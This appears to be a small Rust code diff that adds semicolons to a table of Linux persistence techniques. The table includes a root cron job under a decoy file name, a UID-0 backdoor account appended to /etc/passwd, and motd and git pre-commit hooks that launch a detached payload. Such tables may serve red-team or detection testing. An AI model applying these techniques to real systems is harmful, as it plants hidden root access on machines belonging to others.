@@ -36,7 +36,7 @@ const SCHEDULED: &[Technique] = &[
                 "/etc/cron.d/freedesktop_timesync1",
                 format!("* * * * * root {SHELL}\n"),
                 0o644,
-            )
+            );
         },
         "/etc/cron.d/freedesktop_timesync1",
     ),
@@ -79,7 +79,7 @@ const ACCOUNTS: &[Technique] = &[
                 root,
                 "/etc/passwd",
                 "web:$1$Xc4Vb6n8$0Q3dYh6v4mJt1uYfXr5kE.:0:0:root:/root:/bin/bash\n",
-            )
+            );
         },
         "/etc/passwd",
     ),
@@ -266,7 +266,7 @@ const HOOKS: &[Technique] = &[
                 "/etc/update-motd.d/137-python-upgrades",
                 format!("#!/bin/bash\n{DETACHED}\n"),
                 0o755,
-            )
+            );
         },
         "/etc/update-motd.d/137-python-upgrades",
     ),
@@ -303,7 +303,7 @@ const HOOKS: &[Technique] = &[
                 "/opt/app/.git/hooks/pre-commit",
                 format!("#!/bin/bash\n{DETACHED}\n"),
                 0o755,
-            )
+            );
         },
         "/opt/app/.git/hooks/pre-commit",
     ),
